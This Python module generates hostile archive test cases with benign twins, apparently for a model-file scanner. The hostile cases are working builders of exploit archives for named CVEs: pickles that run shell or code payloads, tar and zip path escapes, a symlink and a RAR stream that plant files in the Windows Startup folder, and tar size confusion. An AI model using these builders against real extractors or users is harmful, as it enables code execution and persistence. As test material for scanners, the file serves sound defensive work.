"""Archives: names that disagree, sizes that disagree, links of great length, streams beside files."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from unittest import mock

import py7zr

from assembly import call, glob, pickle
from eighth.kit import CARD, calm, wicked
from pair import CODE, SHELL
from seventh.kit import elf, layer, link, safetensors, second, state, tarred, torch_zip, zipped


def vint(n: int) -> bytes:
    out = bytearray()
    while n > 127:
        out.append(n & 127 | 128)
        n >>= 7
    return bytes(out + bytes([n]))


def rar_block(body: bytes, data: bytes = b"") -> bytes:
    """A block of RAR 5: checksum, size, body; then its data."""
    sized = vint(len(body)) + body
    return struct.pack("<I", zlib.crc32(sized)) + sized + data


def rar(files, streams=()) -> bytes:
    """A RAR 5 of stored `files`, and NTFS `streams` of the last of them."""
    out = b"Rar!\x1a\x07\x01\x00" + rar_block(vint(1) + vint(0) + vint(0))
    for kind, name, data, extra in [(2, n, d, b"") for n, d in files] + [(3, b"STM", d, n) for n, d in streams]:
        record = vint(7) + extra if extra else b""  # the sub-data record: the stream's name
        record = vint(len(record)) + record if record else b""
        body = vint(kind) + vint(2 | (0x21 if record else 0)) + (vint(len(record)) if record else b"") + vint(len(data))
        body += vint(4) + vint(len(data)) + vint(0x20) + struct.pack("<I", zlib.crc32(data)) + vint(0) + vint(0) + vint(len(name)) + name
        out += rar_block(body + record, data)
    return out + rar_block(vint(5) + vint(0) + vint(0))


def add(out):
    def one(name, hostile, twin, file, why="", prove=None):
        out.add("archives", name, hostile, twin, prove, file, why)

    weights = safetensors([layer("fc.weight", 8, 4)])

    # nullifAI: a broken pickle in a 7z under the name of torch's file.
    def seven(data):
        buffer = io.BytesIO()
        then = mock.patch("py7zr.py7zr.ArchiveTimestamp.from_now", lambda: py7zr.helpers.ArchiveTimestamp.from_datetime(1704067200.0))
        with then, py7zr.SevenZipFile(buffer, "w") as z:
            z.writestr(data, "archive.pkl")
        return buffer.getvalue()

    broken = b"\x80\x02" + call(glob("pydoc", "pipepager"), "x", SHELL) + b"0}q\0X\1\0\0\0aK\1s\xff\xfe broken"
    one(
        "broken_pickle_in_a_seven_zip",
        seven(broken),
        seven(calm("x", SHELL)),
        "pytorch_model.bin",
        "nullifAI (2025): not a zip, and the pickle ends in the middle after its payload",
        "innermost",
    )

    # CVE-2025-1944: the local header has another name.
    def renamed(data):
        at = data.index(b"archive/data.pkl")
        return data[:at] + b"archive/data.txt" + data[at + 16 :]

    one(
        "local_name_is_another",
        renamed(torch_zip(second(pickle(state(("note", call(glob("profile", "run"), CODE))))))),
        torch_zip(second(pickle(state(("note", "step 3"))))),
        "model.pt",
        "CVE-2025-1944: Python's zipfile refuses to read the member, torch does not look",
        "torch",
    )

    # Two zips in one file.
    def joined(data):
        return zipped([("README.md", CARD), ("state.pkl", pickle({"step": 1}))]), zipped([("README.md", CARD), ("state.pkl", data)])

    first, last = joined(wicked(glob("timeit", "timeit"), "0", CODE))
    one(
        "two_zips_in_one_file",
        first + last,
        joined(calm("0", CODE))[1],
        "state.zip",
        "concatenated archives (2024): some tools show the first, Python reads the last",
        "innermost",
    )

    # CVE-2025-4517: paths that grow beyond PATH_MAX.
    def long_links(last):
        step, members, path = "d" * 247, [], ""
        for letter in "abcdefghijklmnop":
            folder = tarfile.TarInfo(f"{path}{step}")
            folder.type, folder.mode, folder.mtime = tarfile.DIRTYPE, 0o755, 1704067200
            members += [(folder.name, folder), (f"{path}{letter}", link(f"{path}{letter}", step))]
            path += step + "/"
        short = "/".join("abcdefghijklmnop") + "/" + "l" * 254
        members += [(short, link(short, "../" * 16)), ("escape", link("escape", short + "/.." if last else "notes"))]
        members += [("escape/note.txt" if last else "notes/note.txt", b"x\n"), ("README.md", CARD)]
        return tarred(members if last else members[-3:])

    one(
        "links_longer_than_a_path",
        long_links(True),
        long_links(False),
        "model.tar",
        "CVE-2025-4517: realpath gives up on a long path and the data filter lets the link through",
        "untar",
    )

    # CVE-2025-62518 (TARmageddon): two sizes of one member.
    def two_sizes(inner, ustar):
        text, pax = b"size=%d" % len(inner), b""
        for size in range(len(text) + 3, len(text) + 6):
            if len(b"%d %s\n" % (size, text)) == size:
                pax = b"%d %s\n" % (size, text)

        def head(name, size, kind):
            block = bytearray(512)
            block[0 : len(name)] = name
            block[100:148] = b"0000644\0" + b"0000000\0" * 2 + b"%011o\0" % size + b"14544520200\0"
            block[148:156], block[156:157], block[257:265] = b" " * 8, kind, b"ustar\x0000"
            block[148:156] = b"%06o\0 " % sum(block)
            return bytes(block)

        def padded(data):
            return data + bytes(-len(data) % 512)

        plain = tarred([("README.md", CARD)])[: 512 + 512]
        return (
            plain + head(b"./PaxHeaders/w", len(pax), b"x") + padded(pax) + head(b"weights.tar", ustar, b"0") + padded(inner) + bytes(1024)
        )

    nested = tarred([(".bashrc", b"touch marker\n"), ("state.pkl", wicked(glob("profile", "run"), CODE))])[:-8192]
    fine = tarred([("state.bin", weights)])[:-8192]
    one(
        "two_sizes_of_one_member",
        two_sizes(nested, 0),
        two_sizes(fine, len(fine)),
        "model.tar",
        "CVE-2025-62518 (TARmageddon): who takes the size of the first header unpacks the inner archive's members as its own",
        "untar.lenient",
    )

    # A link in a zip, and a file below it: CVE-2025-11001.
    def linked(target):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as z:
            info = zipfile.ZipInfo("cache", (2024, 1, 1, 0, 0, 0))
            info.create_system, info.external_attr = 3, 0o120777 << 16
            z.writestr(info, target)
            z.writestr(zipfile.ZipInfo("model.safetensors", (2024, 1, 1, 0, 0, 0)), weights)
            z.writestr(zipfile.ZipInfo("cache/u.bat" if ":" in target else "data/u.txt", (2024, 1, 1, 0, 0, 0)), "rem x\r\n")
        return buffer.getvalue()

    one(
        "link_to_the_start_menu",
        linked("C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp"),
        linked("data"),
        "model.zip",
        "CVE-2025-11001 (7-Zip): a symbolic link with a Windows target, then a file through it",
    )

    # CVE-2025-8088: a stream whose name climbs.
    files = [(b"README.md", CARD), (b"model.safetensors", weights)]
    one(
        "stream_of_a_file_climbs_out",
        rar(files, [(b":..\\..\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk", elf())]),
        rar(files, [(b":Zone.Identifier", b"[ZoneTransfer]\r\nZoneId=3\r\n")]),
        "model.rar",
        "CVE-2025-8088 (WinRAR): an alternate data stream is written where its name says; built from RAR 5's description, not run",
    )

    # A name from a header of sparse files.
    def sparse(name):
        info = tarfile.TarInfo("GNUSparseFile.0/weights.bin")
        info.size, info.mtime, info.pax_headers = (
            2,
            1704067200,
            {"GNU.sparse.name": name, "GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,2", "GNU.sparse.size": "2"},
        )
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as t:
            t.addfile(info, io.BytesIO(b"x\n"))
        return gzip.compress(buffer.getvalue(), mtime=0)

    one("name_of_a_sparse_file", sparse("../marker"), sparse("weights.bin"), "model.tar.gz", "the name comes from GNU.sparse.name", "untar")
